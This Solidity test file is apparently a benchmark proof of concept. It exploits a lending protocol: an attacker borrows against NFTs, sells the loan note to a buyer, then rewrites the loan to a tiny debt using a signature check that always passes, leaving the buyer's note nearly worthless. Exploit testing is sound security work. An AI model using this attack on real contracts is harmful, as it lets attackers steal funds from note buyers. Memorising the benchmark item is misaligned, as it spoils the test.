// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function borrow(LoanDesk desk, Weth weth, Mint pebble) external returns (uint256 loan) {
        weth.approve(address(desk), type(uint256).max);
        pebble.setApprovalForAll(address(desk.vault()), true);
        Offer memory o = Offer(
            address(this), address(weth), address(pebble), 0, 0, 20e18, 1_000, 90 days, 1, 0, uint64(block.timestamp)
        );
        loan = desk.accept(o, "", 31, new bytes32[](0));
    }

    function sell(NoteMarket market, LoanNotes notes, Weth weth, uint256 loan) external {
        notes.setApprovalForAll(address(market), true);
        market.ask(loan, address(weth), 20e18);
    }

    function leave(Weth weth, address to) external {
        weth.transfer(to, weth.balanceOf(address(this)));
    }

    function run(LoanDesk desk, uint256 loan) external {
        uint64 time = uint64(block.timestamp);
        desk.amend(Amendment(loan, 0, 1, 0, time + 700 days, time), "");
    }

    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return this.isValidSignature.selector;
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private loan;

    function _start() internal override {
        other = new Attacker();
        weth.mint(address(other), 20e18);
        pebble.mint(address(other), 31);
        loan = other.borrow(desk, weth, pebble);
        other.sell(market, notes, weth, loan);
        _fund(EVA, 0, address(market));
        vm.prank(EVA);
        market.buy(loan, 0, address(weth), 20e18);
        other.leave(weth, FAR);
    }

    function exploit() public {
        other.run(desk, loan);
    }

    function test_Exploit() public {
        exploit();
        require(noteFunds() < 1e18, "the note is worth its debt");
    }

    /// What the buyer of the note is owed for it.
    function noteFunds() public view returns (uint256) {
        return ledger.owed(EVA, address(weth)) + (desk.loanOf(loan).state == State.None ? 0 : desk.debtOf(loan));
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
